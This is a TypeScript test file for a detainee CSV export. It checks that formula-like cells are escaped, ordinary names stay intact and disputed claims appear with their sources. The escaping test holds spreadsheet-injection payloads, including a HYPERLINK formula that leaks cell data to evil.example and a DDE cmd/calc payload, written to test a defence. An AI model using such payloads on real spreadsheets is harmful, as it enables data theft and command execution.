import { describe, expect, it } from "vitest";
import { detaineeCsvColumns, detaineesCsv } from "./detainees-csv";
import type { DetaineeExportRow } from "./search-published-detainees-for-export";

const row = (overrides: Partial<DetaineeExportRow>): DetaineeExportRow => ({
  slug: "test-person",
  displayName: "Test Person",
  occupation: null,
  translations: null,
  status: "PRE_TRIAL_DETENTION",
  statusCertainty: "KNOWN",
  statusConfirmedOn: null,
  statusConfirmedPrecision: null,
  arrestDate: null,
  arrestDatePrecision: null,
  releaseDate: null,
  releaseDatePrecision: null,
  releaseType: null,
  placeOfDetention: null,
  sentence: null,
  photoCredit: null,
  photoLicence: null,
  updatedAt: new Date("2026-01-02T03:04:05Z"),
  affiliation: null,
  case: null,
  names: [],
  claims: [],
  charges: [],
  ...overrides,
});

/** The cells of each record, as a spreadsheet reads RFC 4180 CSV. */
function cells(csv: string): Record<string, string>[] {
  const records: string[][] = [[]];
  for (const [, quoted, plain, end] of csv
    .replace(/^\uFEFF/, "")
    .matchAll(/(?:"((?:[^"]|"")*)"|([^,\r\n]*))(,|\r\n|$)/g)) {
    records.at(-1)!.push(quoted === undefined ? plain! : quoted.replace(/""/g, '"'));
    if (end === "\r\n") records.push([]);
    if (end === "") break;
  }
  const [header, ...body] = records.filter((r) => r.length > 1);
  return body.map((r) => Object.fromEntries(header!.map((column, i) => [column, r[i]!])));
}

describe("detainee CSV", () => {
  it("shows as text every cell a spreadsheet would run as a formula, even behind blanks", () => {
    const csv = detaineesCsv(
      [
        row({
          displayName: ' =HYPERLINK("http://evil.example/?"&A1,"Open")',
          occupation: "\t=1+1",
          sentence: "\r\n@SUM(A1:A9)",
          placeOfDetention: "\u3000\uFF1DSUM(A1)",
          releaseType: "\u200B+cmd",
          names: [{ name: "\u00A0-2+3", lang: "en", isPrimary: false }],
          affiliation: { name: "=cmd|' /C calc'!A0" },
        }),
      ],
      "en",
    );
    const [record] = cells(csv);
    for (const column of [
      "name",
      "occupation",
      "sentence",
      "place_of_detention",
      "release_type",
      "other_names",
      "affiliation",
    ]) {
      expect(record![column], column).toMatch(/^'/);
    }
  });

  it("leaves ordinary names, dates and links alone", () => {
    const [record] = cells(
      detaineesCsv([row({ displayName: "Anne-Marie Məmmədova", occupation: "Journalist" })], "en"),
    );
    expect(record!.name).toBe("Anne-Marie Məmmədova");
    expect(record!.occupation).toBe("Journalist");
    expect(record!.last_updated).toBe("2026-01-02T03:04:05.000Z");
    expect(record!.permalink).toMatch(/^http/);
    expect(Object.keys(record!)).toEqual([...detaineeCsvColumns]);
  });

  it("carries a disputed fact as every claim with its source, and names the person in the file's language", () => {
    const [record] = cells(
      detaineesCsv(
        [
          row({
            displayName: "Rashad Huseynov",
            arrestDate: new Date("2013-03-07T00:00:00Z"),
            arrestDatePrecision: "DAY",
            names: [
              { name: "Rashad Huseynov", lang: "en", isPrimary: true },
              { name: "Рашад Гусейнов", lang: "ru", isPrimary: true },
            ],
            claims: [
              { field: "arrestDate", value: "2013-03-07", source: { publisher: "Turan", title: "Activist arrested" } },
              { field: "arrestDate", value: "2013-03-08", source: { publisher: "Meydan TV", title: "Detained" } },
              { field: "name", value: "Rashad Hasanov", source: null },
            ],
          }),
        ],
        "ru",
      ),
    );
    expect(record!.name).toBe("Рашад Гусейнов");
    expect(record!.other_names).toBe("Rashad Huseynov");
    expect(record!.disputed_facts).toBe("arrestDate");
    expect(record!.claims).toBe(
      "arrestDate: 2013-03-07 (Turan, Activist arrested) | arrestDate: 2013-03-08 (Meydan TV, Detained) | name: Rashad Hasanov (other sources, not named)",
    );
  });
});
